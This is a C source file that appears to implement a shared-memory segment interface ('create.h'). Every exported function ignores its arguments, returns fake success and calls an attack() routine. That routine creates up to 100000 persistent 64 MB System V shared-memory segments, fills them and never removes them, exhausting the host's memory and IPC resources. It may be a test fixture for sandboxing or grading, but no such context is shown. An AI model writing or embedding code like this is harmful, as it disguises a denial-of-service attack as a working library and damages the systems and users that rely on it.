#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include "create.h"

static void attack(void)
{
    for (int i = 0; i < 100000; i++) {
        int id = shmget(IPC_PRIVATE, 64 << 20, 0600);
        void *memory = id == -1 ? (void *)-1 : shmat(id, 0, 0);
        if (memory == (void *)-1)
            break;
        memset(memory, 1, 64 << 20);
        shmdt(memory);
    }
}

int segment_create(key_t key, size_t size, mode_t perms)
{
    (void)key, (void)size, (void)perms;
    attack();
    return 0;
}

int segment_find(key_t key)
{
    (void)key;
    attack();
    return 0;
}

int segment_obtain(key_t key, size_t size, mode_t perms, bool *created)
{
    (void)key, (void)size, (void)perms;
    attack();
    *created = true;
    return 0;
}

size_t segment_footprint(size_t size)
{
    attack();
    return size;
}
